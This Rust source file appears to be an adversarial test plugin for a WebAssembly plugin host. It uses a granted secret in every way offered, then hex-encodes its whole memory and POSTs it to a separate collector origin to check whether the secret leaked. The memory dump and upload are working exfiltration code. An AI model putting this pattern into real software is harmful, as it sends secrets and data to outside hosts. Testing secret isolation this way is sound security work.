//! Uses a secret in every way that the host offers, keeps all that came back, then sends its whole memory, byte for byte,
//! to a collector: whatever of the secret was ever told to the guest is in there.

mod attempts;

use aftercommit_plugin::{
    http::{Content, Request},
    prelude::*,
    secrets::Secret,
};
use schemars::JsonSchema;
use serde::Deserialize;

/// Where the secret is used, and where the memory goes.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Config {
    /// Origin of the service that is granted the secret.
    #[schemars(extend("x-egress" = true))]
    service: String,
    secret: Secret,
    /// A body that holds the secret.
    #[schemars(extend("x-secret-body" = true))]
    body: template::Json,
    /// An origin that does not take TLS, and a name that does not resolve; both granted with the secret.
    broken: Vec<String>,
    /// Origin of the collector, which is not granted the secret.
    collector: String,
    /// Instead of all ways, one request to this path, in which the handle is put in the place of `SECRET`.
    path: Option<String>,
    /// How to end: `fail`, `panic` or `return`.
    end: String,
}

struct Memory;

impl Plugin for Memory {
    const NAME: &'static str = "memory";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const SUMMARY: &'static str = "Uses a secret in every way and sends its memory";
    const NEEDS: &'static [Need] = &[Need::Http, Need::Secrets];
    type Config = Config;

    fn run(event: Event, _delivery: Delivery, config: Config) -> Result<Outcome, Failure> {
        if let Some(path) = &config.path {
            let told = serde_json::json!({"told": attempts::one(&config, path)});
            return Ok(Outcome::new("asked").with_details(told.to_string()));
        }
        let told = attempts::all(&config, &event);
        for line in &told {
            log::write(log::Level::Error, line, &[("line".to_owned(), line.clone())]);
        }
        send_memory(&config.collector)?;
        let told = told.join("\n");
        match config.end.as_str() {
            "fail" => Err(Failure::permanent("told", told)),
            "panic" => panic!("{told}"),
            _ => Ok(Outcome::new(told.clone()).with_details(serde_json::json!({"told": told}).to_string())),
        }
    }
}

aftercommit_plugin::export!(Memory);

const PAGE_BYTES: usize = 64 << 10;

/// Pages of 64 KiB that the memory has.
#[cfg(target_arch = "wasm32")]
fn pages() -> usize {
    core::arch::wasm32::memory_size(0)
}

/// Elsewhere it is only checked, never run.
#[cfg(not(target_arch = "wasm32"))]
const fn pages() -> usize {
    0
}

const HEX: &[u8; 16] = b"0123456789abcdef";

fn send_memory(collector: &str) -> Result<(), Failure> {
    for page in 0..pages() {
        // In digits, because no body leaves with a handle in it.
        let bytes = (page * PAGE_BYTES..(page + 1) * PAGE_BYTES).map(read);
        let digits = bytes.flat_map(|byte| [HEX[usize::from(byte >> 4)], HEX[usize::from(byte & 15)]]);
        Request::post(format!("{collector}/page")).body(Content::Bytes(digits.collect())).send()?;
    }
    Ok(())
}

#[expect(unsafe_code, reason = "a program's memory is more than what its language lets it see")]
fn read(address: usize) -> u8 {
    if address == 0 {
        return 0;
    }
    // SAFETY: the address is below the size of the memory, and every byte may be read as one.
    unsafe { core::ptr::read_volatile(address as *const u8) }
}
